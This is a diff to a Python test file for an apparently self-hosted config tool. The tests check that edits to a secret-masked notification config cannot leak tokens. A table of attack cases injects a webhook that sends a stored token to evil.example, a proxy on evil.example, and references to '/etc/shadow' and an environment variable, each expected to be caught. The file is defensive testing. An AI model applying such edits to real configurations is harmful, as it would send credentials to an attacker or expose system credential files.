@@ -6,7 +6,7 @@ from hypothesis import strategies as st
 
 from homeport.config import hidden, page_rules
 from homeport.config.loader import examine_text
-from homeport.config.page_rules import AGAIN, FILE, PROGRAM, REFERENCE, SERVER, STORED, WRITTEN
+from homeport.config.page_rules import AGAIN, ANYWHERE, FILE, PROGRAM, REFERENCE, SERVER, STORED, WRITTEN
 
 FILE_TEXT = """\
 # token: c0mment-secret
@@ -326,3 +326,74 @@ def test_whatever_is_sent_no_secret_moves(tmp_path, data):
         assert (before[name].base_url, type(before[name])) == (settings_now.base_url, type(settings_now))
     shown = hidden.shown(new)
     assert not any(secret in shown for secret in SECRETS[1:])
+
+
+NOTIFY_TEXT = """\
+agent:
+  notify:
+    phone: {kind: webhook, preset: gotify, url: "https://gotify.example", token: "secret:gotify"}
+    group: {kind: webhook, preset: dingtalk, url: "https://oapi.dingtalk.com/robot/send?access_token=l1teral-ding"}
+    own: {kind: webhook, url: "secret:own", body: '{"key": "wr1tten-b0dy"}', headers: {Authorization: "Bearer wr1tten-h3ad"}}
+    mail: {kind: smtp, server: smtp.example.com, user: me, password: "secret:mail", sender: a@b.example, to: [c@d.example]}
+    far: {kind: webhook, preset: slack, url: "secret:far", anywhere: true}
+  resolver: [192.0.2.53]
+"""
+NOTIFY_SECRETS = ("l1teral-ding", "wr1tten-b0dy", "wr1tten-h3ad")
+NOTIFY_ATTACKS = {
+    "another kind": (
+        "kind: smtp, server: smtp.example.com, user: me, password",
+        "kind: smtp, server: x.example, password",
+        {AGAIN},
+    ),
+    "another port": ("user: me", "user: me, port: 26", {AGAIN}),
+    "another service": ("preset: gotify", "preset: bark", {AGAIN}),
+    "a token in another's URL": (
+        "    group:",
+        '    evil: {kind: webhook, url: "https://evil.example/{token}", token: "secret:gotify"}\n    group:',
+        {STORED},
+    ),
+    "another resolver": ("192.0.2.53", "192.0.2.66", {AGAIN}),
+    "a proxy": ('token: "secret:gotify"', 'token: "secret:gotify", proxy: "http://evil.example:1"', {AGAIN}),
+    "a variable": ('"secret:own"', '"env:HOME"', {REFERENCE}),
+    "a file": ('"secret:own"', '"file:/etc/shadow"', {REFERENCE}),
+    "stars elsewhere": ("    mail:", '    evil: {kind: webhook, url: "***"}\n    mail:', {hidden.AGAIN}),
+    "a secret written out": (
+        "    mail:",
+        "    evil: {kind: webhook, url: 'https://x.example', body: '{\"token\": \"abcdef\"}'}\n    mail:",
+        {WRITTEN},
+    ),
+    "anywhere": ("preset: gotify", "preset: gotify, anywhere: true", {ANYWHERE}),
+    "anywhere, to elsewhere": ("preset: slack", "preset: discord", {ANYWHERE, AGAIN}),
+    "anywhere, in one more": (
+        "    mail:",
+        '    evil: {kind: webhook, url: "https://x.example", anywhere: true}\n    mail:',
+        {ANYWHERE},
+    ),
+}
+
+
+@pytest.mark.parametrize("name", NOTIFY_ATTACKS)
+def test_who_is_told_is_no_way_out(tmp_path, name):
+    """A secret of one who is told goes where it went, however a page asks for it."""
+    shown = hidden.shown(at(NOTIFY_TEXT, tmp_path))
+    old, new, sentences = NOTIFY_ATTACKS[name]
+    assert shown.count(old) == 1
+    assert sentences <= judge(tmp_path, shown.replace(old, new), NOTIFY_TEXT)
+
+
+def test_what_is_told_is_anybodys_to_change(tmp_path):
+    """Of which names, when and in which language; a new one whose secrets are typed, and one that goes."""
+    shown = hidden.shown(at(NOTIFY_TEXT, tmp_path))
+    for secret in NOTIFY_SECRETS:
+        assert secret not in shown
+    assert hidden.returned(at(NOTIFY_TEXT, tmp_path), shown).text == NOTIFY_TEXT
+    text = shown.replace("preset: gotify", "preset: gotify, when: [failing], language: zh-CN, after: 60")
+    text = text.replace("user: me", "user: me, names: [home.example.com]")
+    text = text.replace(
+        "    mail:", '    new: {kind: webhook, preset: slack, url: "https://hooks.slack.com/x"}\n    mail:'
+    )
+    assert judge(tmp_path, text, NOTIFY_TEXT) == set()
+    less = "".join(line for line in shown.splitlines(keepends=True) if "far:" not in line)
+    assert judge(tmp_path, less, NOTIFY_TEXT) == set()
+    old, new = at(NOTIFY_TEXT, tmp_path), at(hidden.returned(at(NOTIFY_TEXT, tmp_path), text).text, tmp_path)
+    assert page_rules.typed(old, new) == {"agent.notify.new.url": "https://hooks.slack.com/x"}
